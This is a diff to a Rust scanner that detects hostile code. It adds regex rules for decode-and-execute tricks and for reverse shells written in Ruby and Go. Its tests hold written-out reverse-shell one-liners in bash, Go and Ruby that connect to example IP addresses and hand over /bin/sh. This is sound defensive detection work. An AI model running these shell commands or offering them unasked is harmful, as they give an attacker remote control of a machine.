@@ -108,6 +108,9 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
             regex(
                 r"(?i)(?-u:\b)(?:eval|new\s+function|function|exec)\s*\([^;\n]*?(?:fromcharcode|(?-u:\b)chr\s*\()[^;\n]*?\)\s*\(\s*\)",
             ),
+            regex(
+                r#"(?i)(?-u:\b)(?:exec|eval)\s*\(\s*(?:""|'')\s*\.\s*join\s*\(\s*(?:map\s*\(\s*)?chr(?-u:\b)|(?-u:\b)(?:exec|eval)\s*\(\s*(?:bytes|bytearray)\s*\(\s*\["#,
+            ),
         ]),
         reverse_shell: PatternList::new(vec![
             regex(r"(?i)(?-u:\b)(?:ba|z)?sh\s+-i\s*[0-9]*>&\s*/dev/(?:tcp|udp)/"),
@@ -127,6 +130,9 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
             ),
             regex(
                 r"(?i)(?-u:\b)fsockopen\s*\(.*(?-u:\b)(?:exec|shell_exec|system|proc_open|passthru)(?-u:\b)",
+            ),
+            regex(
+                r"(?i)(?-u:\b)tcpsocket\.(?:new|open)\s*\(.*(?:/bin/(?:ba|z)?sh|(?-u:\b)(?:exec|spawn|popen)(?-u:\b))",
             ),
         ]),
         archive_command: PatternList::new(vec![
@@ -401,11 +407,11 @@ fn password_archive(text: &str, sink: &mut Sink) {
 pub(crate) fn reverse_shell_lines(document: &Document<'_>) -> Option<(usize, usize, Hit)> {
     const SPAN: usize = 12;
     static SOCKET: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"(?i)socket\.socket\s*\(|socket\.create_connection|new\s+net\.socket|net\.(?:connect|createconnection)\s*\(|tcpclient\s*\(|fsockopen\s*\(|(?-u:\b)socket\s*\(\s*(?:af_inet|pf_inet|socket::)")
+        Regex::new(r#"(?i)socket\.socket\s*\(|socket\.create_connection|new\s+net\.socket|net\.(?:connect|createconnection)\s*\(|net\.dial\s*\(\s*"tcp|tcpclient\s*\(|fsockopen\s*\(|(?-u:\b)socket\s*\(\s*(?:af_inet|pf_inet|socket::)"#)
             .expect("the pattern is valid")
     });
     static HANDED: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"(?i)(?-u:\b)dup2\s*\(|pty\.spawn\s*\(|\.pipe\(\s*\w+\.stdin|(?:stdin|stdout)\s*=\s*\w+\.(?:fileno|makefile)|stdio\s*:\s*\[\s*\w+\s*,")
+        Regex::new(r"(?i)(?-u:\b)dup2\s*\(|pty\.spawn\s*\(|\.pipe\(\s*\w+\.stdin|(?:stdin|stdout)\s*=\s*\w+\.(?:fileno|makefile)|stdio\s*:\s*\[\s*\w+\s*,|\.std(?:in|out)\s*=\s*\w+\s*$")
             .expect("the pattern is valid")
     });
     static SHELL: LazyLock<Regex> = LazyLock::new(|| {
@@ -414,6 +420,9 @@ pub(crate) fn reverse_shell_lines(document: &Document<'_>) -> Option<(usize, usi
     });
     let text = &document.text;
     if !text.contains("socket") && !text.contains("net.") && !text.contains("TcpClient") {
+        return None;
+    }
+    if !text.contains("sh") && !text.contains("cmd") && !text.contains("owershell") {
         return None;
     }
     let (first, _) = document.near(&[&*SOCKET, &*HANDED, &*SHELL], SPAN)?;
@@ -634,6 +643,10 @@ mod tests {
             (Rule::DecodeAndExecute, Severity::High)
         );
         assert_eq!(
+            found("exec(''.join(chr(c) for c in CODES))")[0],
+            (Rule::DecodeAndExecute, Severity::High)
+        );
+        assert_eq!(
             found("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")[0],
             (Rule::ReverseShell, Severity::Critical)
         );
@@ -681,6 +694,15 @@ mod tests {
         assert_eq!(
             reverse_shell_lines(&document).map(|(line, _, hit)| (line, hit.rule)),
             Some((3, Rule::ReverseShell))
+        );
+        let go = "conn, _ := net.Dial(\"tcp\", \"198.51.100.9:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = conn\ncmd.Run()\n";
+        let document = Document::read("main.go", go.as_bytes()).unwrap();
+        assert!(reverse_shell_lines(&document).is_some());
+        assert_eq!(
+            found(
+                "ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'"
+            )[0],
+            (Rule::ReverseShell, Severity::Critical)
         );
         let client = "import socket\ns = socket.socket()\ns.connect((\"localhost\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(64))\n";
         let document = Document::read("ping.py", client.as_bytes()).unwrap();
